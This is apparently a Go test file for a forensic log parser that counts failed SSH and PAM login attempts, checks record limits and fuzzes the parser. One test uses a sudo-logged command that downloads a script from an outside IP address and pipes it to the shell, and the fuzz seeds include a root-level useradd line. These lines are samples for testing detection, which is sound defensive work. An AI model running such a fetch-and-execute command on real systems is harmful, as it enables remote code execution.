package events

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/model"
	"icecore/forensics/syslog"
)

// parse reads the lines of a log, and gives the records and the number of events left
// out.
func parse(t testing.TB, text string) ([]model.Record, int64) {
	t.Helper()
	var out []model.Record
	p := New(func(r model.Record) { out = append(out, r) })
	log := syslog.NewReader(t.Context(), strings.NewReader(text), time.Time{}, time.UTC)
	err := artifact.Lines(strings.NewReader(text), func(l artifact.Line) error {
		if e, ok := log.Read(l); ok {
			p.Add(&e, l.Source())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	left := p.Finish()
	return out, left
}

// TestAttempts: of several lines on one attempt, one counts.
func TestAttempts(t *testing.T) {
	const head = "2026-11-20T07:50:00Z h sshd[%d]: "
	tests := []struct {
		name  string
		lines []string
		want  string // count, users and user_count; empty: no series
	}{
		{"a password", []string{"1 Failed password for root from 192.0.2.1 port 5 ssh2"}, "1 root 1"},
		{"no such user", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Failed password for invalid user x from 192.0.2.1 port 5 ssh2"}, "1 x 1"},
		{"no such user, no password allowed", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Connection closed by invalid user x 192.0.2.1 port 5 [preauth]"}, "1 x 1"},
		{"no such user, three passwords", []string{"1 Invalid user x from 192.0.2.1 port 5", "1 Failed password for invalid user x from 192.0.2.1 port 5 ssh2", "1 message repeated 2 times: [ Failed password for invalid user x from 192.0.2.1 port 5 ssh2]"}, "3 x 1"},
		{"PAM tells too", []string{"1 pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root", "1 Failed password for root from 192.0.2.1 port 5 ssh2", "1 Failed password for root from 192.0.2.1 port 5 ssh2", "1 PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"}, "2 root 1"},
		{"PAM alone", []string{"1 pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=x rhost=192.0.2.1  user=x"}, "1 x 1"},
		{"PAM sums up connections of another day", []string{"1 PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"}, ""},
		{"two connections", []string{"1 Failed password for root from 192.0.2.1 port 5 ssh2", "2 Failed password for root from 192.0.2.1 port 6 ssh2"}, "2 root 1"},
		{"a login with keys that do not fit first", []string{"1 Failed none for deploy from 192.0.2.1 port 5 ssh2", "1 Failed publickey for deploy from 192.0.2.1 port 5 ssh2: RSA SHA256:x", "1 Accepted publickey for deploy from 192.0.2.1 port 5 ssh2: ED25519 SHA256:y"}, ""},
		{"keyboard-interactive", []string{"1 Failed keyboard-interactive/pam for root from 192.0.2.1 port 5 ssh2"}, "1 root 1"},
		{"the name is empty", []string{"1 Invalid user  from 192.0.2.1 port 5", "1 Failed password for invalid user  from 192.0.2.1 port 5 ssh2"}, "1  0"},
		{"the name looks like the rest", []string{"1 Failed password for invalid user root from 10.0.0.1 port 1 ssh2 from 192.0.2.1 port 5 ssh2"}, "1 root from 10.0.0.1 port 1 ssh2 1"},
		{"a number beyond reason", []string{"1 message repeated 99999999999 times: [ Failed password for root from 192.0.2.1 port 5 ssh2]"}, "1 root 1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var text strings.Builder
			for _, l := range tt.lines {
				pid, msg, _ := strings.Cut(l, " ")
				fmt.Fprintf(&text, strings.Replace(head, "%d", "%s", 1)+"%s\n", pid, msg)
			}
			records, _ := parse(t, text.String())
			got := ""
			for _, r := range records {
				if r.Kind == "auth.failures" {
					got += r.Get("count") + " " + r.Get("users") + " " + r.Get("user_count")
					if r.Get("address") != "192.0.2.1" {
						t.Errorf("address %q", r.Get("address"))
					}
				}
			}
			if got != tt.want {
				t.Errorf("%q, want %q", got, tt.want)
			}
		})
	}
}

// TestManyAddresses: a distributed guess, thrice as many addresses as are kept,
// and every attempt still counts.
func TestManyAddresses(t *testing.T) {
	var text strings.Builder
	n := 3 * maxPeers
	for i := range n {
		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for u%d from 10.%d.%d.%d port 5 ssh2\n", i, i, i>>16, i>>8&255, i&255)
	}
	if records, left := parse(t, text.String()); len(records) != n || left != 0 {
		t.Errorf("%d records, %d left out; want %d", len(records), left, n)
	}
}

// TestBound: more addresses than there may be records; what is over the bound is
// counted.
func TestBound(t *testing.T) {
	var text strings.Builder
	n := maxRecords + 100
	for i := range n {
		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for root from 10.%d.%d.%d port 5 ssh2\n", i, i>>16, i>>8&255, i&255)
	}
	if records, left := parse(t, text.String()); len(records) != maxRecords || left != 100 {
		t.Errorf("%d records, %d left out", len(records), left)
	}
}

// TestOnePeerManyNames: users are counted up to a bound, and it says so.
func TestOnePeerManyNames(t *testing.T) {
	var text strings.Builder
	for i := range maxNames + 5 {
		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for u%04d from 192.0.2.1 port 5 ssh2\n", i, i)
	}
	records, _ := parse(t, text.String())
	want := fmt.Sprintf("1 auth.failures first=2026-11-20T07:50:00Z last=2026-11-20T07:50:00Z address=192.0.2.1 count=%d users=u0000,u0001,u0002,u0003,u0004,u0005,u0006,u0007,u0008,u0009 user_count=%d more_users=yes", maxNames+5, maxNames)
	if artifacttest.Plain(records[0]) != want {
		t.Errorf("%s\nwant %s", artifacttest.Plain(records[0]), want)
	}
}

// TestLoggedCommand: what sudo logs of `sudo sh -c '...'`, without the quotes and
// with them.
func TestLoggedCommand(t *testing.T) {
	for in, want := range map[string]string{
		"/bin/sh -c curl -s http://203.0.113.77/i.sh | sh":   "/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'",
		"/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'": "/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh'",
		"/usr/bin/bash -lc systemctl restart app":            "/usr/bin/bash -lc 'systemctl restart app'",
		"/usr/bin/systemctl restart app":                     "/usr/bin/systemctl restart app",
		"/opt/push -c curl | sh":                             "/opt/push -c curl | sh",
		"/bin/sh":                                            "/bin/sh",
	} {
		if got := loggedCommand(in); got != want {
			t.Errorf("%s: %s", in, got)
		}
	}
}

func FuzzParser(f *testing.F) {
	for _, m := range []string{
		"sshd[1]: Failed password for invalid user x from 192.0.2.1 port 5 ssh2",
		"sshd[1]: Accepted publickey for root from 192.0.2.1 port 5 ssh2: ED25519 SHA256:x",
		"sudo:   web : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'a | sh'",
		"su: (to root) deploy on pts/0", "useradd[1]: new user: name=a, UID=0, GID=0, home=/, shell=/bin/sh, from=none",
		"CRON[1]: (root) CMD (a | sh)", "systemd[1]: Started a.service - A.", "login[1]: FAILED LOGIN (1) ON '/dev/tty1' FOR 'root', x",
		"passwd[1]: password for 'a' changed by 'b'", "dropbear[1]: Bad password attempt for 'a' from 192.0.2.1:5",
		"x: PAM 2 more authentication failures; logname= rhost=192.0.2.1  user=root",
	} {
		f.Add("2026-11-20T07:50:00Z h " + m + "\n")
	}
	f.Fuzz(func(t *testing.T, text string) {
		records, _ := parse(t, text)
		for _, r := range records {
			if info := r.Kind.Info(); info == nil {
				t.Errorf("the kind %q", r.Kind)
			}
		}
		if len(records) > 2*strings.Count(text, "\n")+2 {
			t.Errorf("%d records", len(records))
		}
	})
}

// TestManyRuns: different commands of cron are kept up to a bound, and those over it are
// counted.
func TestManyRuns(t *testing.T) {
	var text strings.Builder
	for i := range maxRuns + 3 {
		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h CRON[1]: (root) CMD (a%d)\n", i)
	}
	if records, left := parse(t, text.String()); len(records) != maxRuns || left != 3 {
		t.Errorf("%d records, %d left out", len(records), left)
	}
}
